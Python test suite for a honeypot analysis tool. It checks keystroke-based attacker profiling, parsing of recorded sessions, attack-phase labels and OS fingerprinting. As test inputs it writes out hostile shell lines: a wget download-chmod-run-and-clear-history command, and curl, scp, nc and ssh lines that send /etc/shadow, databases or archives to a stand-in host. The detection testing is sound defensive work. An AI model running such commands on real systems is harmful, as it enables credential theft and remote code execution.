"""What a session shows of who typed it: recordings of any kind are read, and never trusted."""

from __future__ import annotations

import datetime as dt
import json
import os
import random
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet.analysis import observe, recording
from decnet.analysis.phases import LARGE, Phases, phases_of
from decnet.analysis.profile import PLACES_MOST, Profile
from decnet.analysis.recording import BadRecording, Keys, read_session
from decnet.analysis.strokes import strokes_of
from decnet.analysis.system import first_ttl, os_of
from decnet.analysis.traits import PRIMITIVES, Session, traits_of
from decnet.decoys.recorder import Recording, Shards
from decnet.models import ObservationMade

START = dt.datetime(2026, 11, 24, 3, 0, tzinfo=dt.UTC)
HEADER = {"width": 80, "height": 24, "env": {"TERM": "xterm"}, "command": None}


def typed(text: str, *, gap: float = 0.15, seed: int = 1, wobble: float = 0.5) -> Keys:
    """Keys as a hand types them, one by one."""
    chance, keys, now = random.Random(seed), Keys(term="xterm"), 0.5
    for char in text:
        now += gap * chance.uniform(1 - wobble, 1 + wobble)
        keys.inputs.append((now, char))
    return keys


def traits(keys: Keys | None, commands: list[str], **more: Any) -> dict[str, Any]:
    session = Session(
        commands=commands,
        times=[2.5 * n for n in range(len(commands))],
        duration_s=12.0,
        keys=keys,
        strokes=None if keys is None else strokes_of(keys),
        **more,
    )
    found = traits_of(session)
    assert all(0 <= trait.confidence <= 1 for trait in found)
    return {trait.primitive: trait.value for trait in found}


def test_traits_of_a_hand() -> None:
    text = "id\runame -sa\x7f\r\x1b[A\rls /et\t\rcat /etc/passwd | head | wc\rexit\r"
    found = traits(
        typed(text), ["id", "uname -s", "ls /etc", "cat /etc/passwd | head | wc", "exit"]
    )
    assert found["motor.input_modality"] == "typed"
    assert 0.1 < found["motor.cadence_s"] < 0.25
    assert found["motor.paste_bursts"] == 0
    assert found["motor.error_correction"] == pytest.approx(1 / 47, abs=0.02)
    assert found["motor.shortcuts"] == "up"
    assert found["motor.pipe_depth"] == 2
    assert found["cognitive.inter_command_latency_s"] == 2.5
    assert found["temporal.landing_ritual"] == "id uname ls"
    assert found["temporal.exit"] == "exit"
    assert found["operational.objective"] == "recon"
    assert found["operational.cleanup"] is False
    assert len(found["motor.digraph_simhash"]) == 16


def test_traits_of_a_paste_and_of_a_script() -> None:
    line = "cd /tmp; wget http://192.0.2.1/x; chmod +x x; ./x; history -c\r"
    pasted = Keys(inputs=[(1.0, line)], term="xterm-256color")
    found = traits(pasted, [line.strip()])
    assert found["motor.input_modality"] == "pasted"
    assert found["motor.paste_bursts"] == 1
    assert found["operational.objective"] == "tooling"
    assert found["operational.cleanup"] is True
    fast = Keys(inputs=[(1 + n / 1000, c) for n, c in enumerate(line)], term="xterm")
    assert traits(fast, [])["motor.input_modality"] == "pasted"
    steady = typed("uname -a; id; w; uptime\r" * 2, wobble=0.0)
    assert traits(steady, [])["motor.input_modality"] == "scripted"
    command = Keys(command="id; uname -a", ended=True)
    assert traits(command, ["id; uname -a"])["motor.input_modality"] == "scripted"
    assert "motor.input_modality" not in traits(None, ["id"])


def distance(a: str, b: str) -> int:
    return (int(a, 16) ^ int(b, 16)).bit_count()


def test_simhash_is_near_for_the_same_hand_and_far_for_another() -> None:
    text = "cat /etc/passwd\rls -la /var/log\rps aux\rnetstat -tulpn\rwhoami\runame -a\r" * 3
    name = "motor.digraph_simhash"
    one = traits(typed(text, seed=1, wobble=0.2), [])[name]
    same = traits(typed(text, seed=2, wobble=0.2), [])[name]
    other = traits(typed(text, gap=0.6, seed=3, wobble=0.2), [])[name]
    assert distance(one, same) < 12 < distance(one, other)


KEYS = st.builds(
    Keys,
    inputs=st.lists(st.tuples(st.floats(0, 1e6), st.text(max_size=30)), max_size=40).map(sorted),
    term=st.text(max_size=8),
    command=st.none() | st.text(max_size=20),
    ended=st.booleans(),
)


@given(KEYS, st.lists(st.text(max_size=200), max_size=20))
def test_traits_of_anything_are_values_that_the_bus_takes(keys: Keys, commands: list[str]) -> None:
    found = traits(keys, commands)
    assert set(found) <= set(PRIMITIVES)
    for value in found.values():
        json.dumps(value)
        assert isinstance(value, str | int | float | bool)


def test_there_are_enough_primitives() -> None:
    assert len(PRIMITIVES) >= 12


# -- recordings


def recorded(folder: Path, sessions: int = 3) -> tuple[Path, list[str]]:
    """Sessions mixed in one shard by the decoys' own recorder."""
    shards = Shards(folder, "decky-01", "ssh")
    made = [Recording(shards, f"session-{n}", HEADER) for n in range(sessions)]
    for round_ in range(20):
        for number, one in enumerate(made):
            one.typed(b"key-%d-%d" % (number, round_))
            one.shown(b"\xff" * 200)
    for one in made:
        one.end()
    shards.close()
    return made[0].path, [f"session-{n}" for n in range(sessions)]


def test_recording_gives_one_session_out_of_a_shard(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path, ids = recorded(tmp_path)
    for chunk in (1 << 20, 700):
        monkeypatch.setattr(recording, "CHUNK", chunk)
        for number, session_id in enumerate(ids):
            keys = read_session(tmp_path, str(path), session_id)
            assert [t for _, t in keys.inputs] == [f"key-{number}-{n}" for n in range(20)]
            assert keys.ended and keys.term == "xterm" and not keys.cut
            assert all(len(text) <= recording.TAIL for _, text in keys.outputs)


def test_recording_outside_the_folder_or_odd_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "artifacts"
    folder.mkdir()
    (tmp_path / "secret").write_text('{"sid":"s","version":2}\n')
    os.mkfifo(folder / "fifo")
    (folder / "link").symlink_to(tmp_path / "secret")
    for path, why in (
        (str(tmp_path / "secret"), "outside"),
        (f"{folder}/../secret", "outside"),
        (str(folder / "link"), "outside"),
        (str(folder / "fifo"), "no regular file"),
        (str(folder), "no regular file"),
        (str(folder / "missing"), "No such file"),
        ("", "outside"),
        ("a\0b", "no such path"),
    ):
        with pytest.raises(BadRecording, match=why):
            read_session(folder, path, "s")


def test_recording_without_the_session_says_so(tmp_path: Path) -> None:
    path, _ = recorded(tmp_path)
    with pytest.raises(BadRecording, match="not in the file"):
        read_session(tmp_path, str(path), 'session-9"')


def test_recording_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path, ids = recorded(tmp_path)
    monkeypatch.setattr(recording, "EVENTS_MOST", 10)
    keys = read_session(tmp_path, str(path), ids[0])
    assert keys.cut and len(keys.inputs) + len(keys.outputs) == 10
    monkeypatch.setattr(recording, "SESSION_MOST", 500)
    assert read_session(tmp_path, str(path), ids[0]).cut


JSON = st.recursive(
    st.none() | st.booleans() | st.floats() | st.integers() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner),
)


@given(st.lists(st.binary(max_size=60) | JSON.map(lambda v: json.dumps({"event": v}).encode())))
def test_recording_of_anything_is_read(lines: list[bytes]) -> None:
    keys = Keys()
    for line in lines:
        recording._take(keys, line)
    times = [time for time, _ in keys.inputs]
    assert times == sorted(times)
    traits(keys, [])


# -- phases, systems, places


def test_phases_tell_the_way_from_looking_to_taking() -> None:
    phases = Phases()
    for seconds, command in (
        (0, "id"),
        (10, "cat /etc/passwd"),
        (40, "tar cz /srv | ssh a@192.0.2.9 'cat > x'"),
        (50, "ls"),
    ):
        phases.add(START + dt.timedelta(seconds=seconds), "command", {"command": command})
        phases = Phases.from_json(json.loads(json.dumps(phases.as_json())))
    phases.add(START, "upload", {"size_bytes": str(LARGE)})
    told = phases.as_json()
    assert told["recon_to_exfil_s"] == 30.0
    assert told["phases"]["recon"]["count"] == 3
    assert told["large_payloads"] == 1
    assert set(told["order"]) == {"recon", "exfiltration", "tooling"}


@pytest.mark.parametrize(
    ("command", "phases"),
    [
        ("wget http://192.0.2.1/x.sh", {"tooling"}),
        ("curl -T /etc/shadow http://192.0.2.1/", {"exfiltration"}),
        ("scp /etc/shadow me@192.0.2.1:", {"exfiltration"}),
        ("scp me@192.0.2.1:x .", {"execution"}),
        ("nc 192.0.2.1 99 < db.sql", {"exfiltration"}),
        ("sudo /usr/bin/id && ./bot", {"recon", "execution"}),
        ("", set()),
    ],
)
def test_phases_of_a_command(command: str, phases: set[str]) -> None:
    assert set(phases_of("command", {"command": command})) == phases


@pytest.mark.timeout(60)
def test_phases_of_a_hostile_command_take_no_time() -> None:
    for text in ("curl " + "-T" * 9000, "scp " * 9000, "|" * 9000, "nc " + " " * 9000):
        list(phases_of("command", {"command": text}))


def test_system_by_its_first_packet() -> None:
    assert os_of({"os_guess": "Linux"}) == ("Linux", None)
    assert os_of({"os_guess": "masscan"}) == (None, "masscan")
    assert os_of({"ttl": "113", "options": "mss,nop"}) == ("Windows", None)
    assert os_of({"initial_ttl": "64", "options": "mss,ts"}) == ("Linux or Unix", None)
    assert os_of({"ttl": "-1"}) == os_of({}) == (None, None)
    assert [first_ttl(n) for n in (1, 64, 65, 255)] == [32, 64, 128, 255]


def event(number: int, kind: str, by: str = "ssh", decky: str = "d", **fields: str) -> Any:
    time = START + dt.timedelta(seconds=number)
    return SimpleNamespace(
        id=number, timestamp=time, decky=decky, service=by, event_type=kind, fields=fields
    )


def test_profile_tells_observers_from_deeds() -> None:
    profile = Profile("192.0.2.7", START, START)
    profile.add(event(1, "connect"))
    profile.add(
        event(
            *(2, "tcp_syn_fingerprint", "sniffer"),
            service="telnet",
            os_guess="Linux",
            hop_distance="11",
            tcp_hash="ab",
        )
    )
    profile.add(event(3, "tcp_flow_timing", "sniffer", retransmits="4", service="ssh"))
    profile.add(event(99, "hassh_fingerprint", "prober", "decnet-prober", hassh="cd"))
    profile.add(event(4, "rcpt_to", "smtp", rcpt_to="<a@Example.com>"))
    profile.add(event(5, "rcpt_to", "smtp", rcpt_to="b@example.com,c@example.org"))
    row, behavior = profile.attacker_columns(), profile.behavior_columns()
    assert row["event_count"] == 6
    assert row["services"] == ["smtp", "ssh", "telnet"]
    assert row["deckies"] == ["d"] and not row["is_traversal"]
    assert row["last_seen"] == START + dt.timedelta(seconds=5)
    assert row["fingerprints"] == [{"kind": "tcp", "value": "ab"}]
    assert (behavior["os_guess"], behavior["hop_distance"]) == ("Linux", 11)
    assert behavior["retransmit_count"] == 4
    assert {d: t.count for d, t in profile.targets.items()} == {"example.com": 2, "example.org": 1}


def test_profile_hands_over_places_for_which_it_has_no_room() -> None:
    profile = Profile("192.0.2.7", START, START)
    for number in range(PLACES_MOST + 3):
        profile.add(event(number, "connect", decky=f"d{number}"))
    assert profile.decky_count == PLACES_MOST
    assert len(profile.spilled) == 3


def test_observations_cross_the_bus_and_have_fixed_ids() -> None:
    row = SimpleNamespace(
        session_id="s1",
        attacker_ip="192.0.2.7",
        started_at=START,
        ended_at=START + dt.timedelta(seconds=9),
        duration_s=9.0,
        commands=[{"command_text": "id", "ts": START.isoformat()}],
    )
    ended = observe.Ended(1, row, "a1")
    rows = observe.observations_of(ended, typed("id\r"))
    assert len(rows) >= 12
    again = observe.observations_of(ended, None)
    assert {r["id"] for r in again} < {r["id"] for r in rows}
    assert {r["source"] for r in again} == {"commands"}
    for one in rows:
        assert ObservationMade.model_validate(observe.payload_of(one)).attacker_uuid == "a1"
